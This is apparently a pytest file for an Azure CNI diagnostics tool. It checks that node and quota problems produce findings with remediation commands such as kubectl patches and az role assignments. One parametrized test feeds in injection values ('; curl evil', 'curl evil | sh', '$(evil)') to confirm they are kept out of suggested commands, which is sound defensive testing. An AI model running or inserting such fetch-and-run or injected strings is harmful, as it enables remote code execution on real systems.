"""What is wrong with nodes: each problem has the command that ends it, with the names of this case."""

from __future__ import annotations

import re
from typing import Any

import pytest

from azure_cni import __version__
from azure_cni.api.conditions import ProblemReport
from azure_cni.commands import reads
from azure_cni.diagnose.check_results import CheckResult
from azure_cni.diagnose.findings import Finding
from azure_cni.diagnose.overview import survey
from azure_cni.diagnose.pool_checks import check_room
from fakes.cluster_access import FakeClusterAccess
from unit.diagnose.clusters import NIC, cluster, condition, node, pod, pool, process, quota

WHO = "00000000-1111-2222-3333-444444444444"
CONFLICT = condition("HostConflict", True, "ForeignFilter", "filters; and rules")
DENIED = condition("PermissionMissing", True, "AccessDenied", "write is missing")


def found(access: FakeClusterAccess, *problems: ProblemReport) -> list[Finding]:
    return survey(reads.read_cluster(access), version=__version__, problems={"vm1": problems}).findings


def test_each_conflict_of_a_host_is_a_line_with_its_command():
    answers = found(
        cluster(pools=[pool("vm1", CONFLICT)]),
        ProblemReport("HostConflict", "ForeignFilter", "filters", "iptables -P FORWARD ACCEPT"),
        ProblemReport("HostConflict", "AmbiguousUplink", "two have the MAC"),
        ProblemReport("PermissionMissing", "AccessDenied", "no condition says so any more", scope=NIC),
    )
    assert [(one.code, one.message, one.command, one.node) for one in answers] == [
        ("ForeignFilter", "filters", "iptables -P FORWARD ACCEPT", "vm1"),
        ("AmbiguousUplink", "two have the MAC", "kubectl describe nodeippool vm1", ""),
    ]


def test_an_agent_that_was_not_asked_leaves_the_condition():
    (one,) = found(cluster(pools=[pool("vm1", CONFLICT)]))
    assert (one.code, one.command, one.node) == ("ForeignFilter", "kubectl describe nodeippool vm1", "")


def test_a_permission_that_is_missing_has_the_command_that_assigns_it_and_is_said_once():
    not_ready = condition("Ready", False, "AccessDenied", "write is missing")
    problem = ProblemReport("PermissionMissing", "AccessDenied", "write is missing", identity=WHO, scope=NIC)
    (warning,) = found(cluster(pools=[pool("vm1", DENIED)]), problem)
    (error,) = found(cluster(pools=[pool("vm1", not_ready, DENIED)]), problem)
    assert [warning.severity, error.severity] == ["warning", "error"]
    assign, _, again = error.command.partition(" && ")
    assert assign == f'az role assignment create --assignee {WHO} --role "azure-cni agent" --scope {NIC}'
    assert again.startswith("kubectl annotate nodeippool vm1 --overwrite azure-cni.io/read-now=")


def test_a_nic_that_the_pod_subnet_lacks_is_said_once_whether_pods_start_or_not():
    missing = condition("NicChangePending", True, "NicMissing", "az network nic create")
    not_ready = condition("Ready", False, "NicMissing", "az network nic create")
    (warning,) = found(cluster(pools=[pool("vm1", missing)]))
    (error,) = found(cluster(pools=[pool("vm1", not_ready, missing)]))
    assert [warning.severity, error.severity] == ["warning", "error"]
    assert (error.code, error.message) == ("NicMissing", "az network nic create")
    assert error.page.endswith("#a-pod-subnet-on-a-second-nic")


@pytest.mark.parametrize(
    ("words", "command"),
    [
        ({"identity": WHO, "scope": f"{NIC}; curl evil"}, "kubectl describe nodeippool vm1"),
        ({"identity": WHO, "scope": "/"}, "kubectl describe nodeippool vm1"),
        ({"command": "curl evil | sh", "scope": ""}, "kubectl describe nodeippool vm1"),
        ({"identity": "$(evil)", "scope": NIC}, "--assignee OBJECT-ID "),
    ],
)
def test_a_node_that_was_taken_over_names_no_command_for_elsewhere(words: dict[str, str], command: str):
    problem = ProblemReport("PermissionMissing", "AccessDenied", "write is missing", **words)
    (one,) = found(cluster(pools=[pool("vm1", DENIED)]), problem)
    assert command in one.command
    assert "evil" not in one.command
    assert one.node == ""


def test_pods_that_lost_their_address_are_to_be_deleted_by_name():
    drifted = pool("vm1", condition("Drifted", True, "AddressesLost", "10.240.0.99"))
    lost = pod("lost", ip="10.240.0.99", phase="Running")
    well = pod("well", ip="10.240.0.36", phase="Running")
    late = pod("late", ip="10.240.0.98", phase="Running")
    late["status"]["conditions"][0]["lastTransitionTime"] = "2026-11-28T06:19:00Z"
    (one,) = found(cluster(lost, well, late, pools=[drifted]))
    assert one.command == "kubectl delete pod -n default lost"


@pytest.mark.parametrize(
    ("asked", "spec", "limit"),
    [
        (120, {"limit": 100}, "120"),
        (120, {"limit": 100, "reserved": 10}, "130"),
        (90, {"limit": 100}, None),  # what is asked for has changed meanwhile
    ],
)
def test_a_quota_that_is_exhausted_is_raised_to_what_nodes_ask_for(asked: int, spec: dict[str, Any], limit: str | None):
    full = quota(condition("Ready", False, "QuotaExceeded", "nothing is left"))
    full["spec"] |= spec
    (one,) = found(cluster(quotas=[full], pools=[pool(requestID=2, requested=asked)]))
    raised = f"""kubectl patch vnetquota vnet --type=merge -p '{{"spec":{{"limit":{limit}}}}}'"""
    assert one.command == (raised if limit else "kubectl describe vnetquota vnet")


def test_a_controller_of_which_there_is_no_pod_is_scaled_up():
    (one,) = found(cluster(processes=[process("agent")]))
    assert one.command.startswith("kubectl scale -n kube-system deployment -l app.kubernetes.io/name=azure-cni,")
    assert one.command.endswith("component=controller --replicas=2")


@pytest.mark.parametrize("priority", ["", "system-cluster-critical"])
def test_agents_that_may_be_evicted_are_found(priority: str):
    agent = process("agent")
    agent["spec"]["priorityClassName"] = priority
    (one,) = found(cluster(processes=[agent, process("controller")]))
    assert (one.code, one.severity) == ("AgentPriority", "warning")
    assert re.search(r"patch daemonset azure-cni-agent --type=merge -p '.*system-node-critical", one.command)


@pytest.mark.parametrize(
    ("most", "pods", "host", "named"),
    [(20, "110", 0, "110"), (20, "110", 3, "107"), (20, "20", 0, ""), (20, "22", 2, ""), (20, "900", 0, "250")],
)
def test_a_pool_that_is_smaller_than_its_kubelet_is_named(most: int, pods: str, host: int, named: str):
    hosted = [pod(f"host{number}", phase="Running", host=True) for number in range(host)]
    small = pool() | {"spec": {"max": most}}
    one = check_room(
        reads.read_cluster(cluster(*hosted, pools=[small], nodes=[node(capacity={"pods": pods})], processes=[]))
    )
    assert (one.result is CheckResult.WARNING) == bool(named)
    assert one.command == (
        f'kubectl patch nodeippool vm1 --type=merge -p \'{{"spec":{{"max":{named}}}}}\'' if named else ""
    )


def test_the_quotas_limit_for_each_node_bounds_a_pool_too():
    """What only raises the pool's own limit would change nothing."""
    low = quota()
    low["spec"]["perNodeLimit"] = 30
    sized = pool("vm3") | {"spec": {"size": 5, "max": 8}}
    nodes = [node(), node("vm2", capacity={"pods": "64"}), node("vm3")]
    pools = [pool() | {"spec": {"max": 20}}, pool("vm2") | {"spec": {"max": 250}}, sized]
    one = check_room(reads.read_cluster(cluster(pools=pools, quotas=[low], nodes=nodes, processes=[])))
    assert "vm1 (at most 20 addresses, 110 pods), vm2 (at most 30 addresses, 64 pods)" in one.message
    assert one.command == (
        """kubectl patch nodeippool vm1 --type=merge -p '{"spec":{"max":110}}'; """
        """kubectl patch vnetquota vnet --type=merge -p '{"spec":{"perNodeLimit":110}}'"""
    )
    assert check_room(reads.read_cluster(cluster(pools=[pool() | {"spec": {"max": None}}]))).result is CheckResult.GOOD
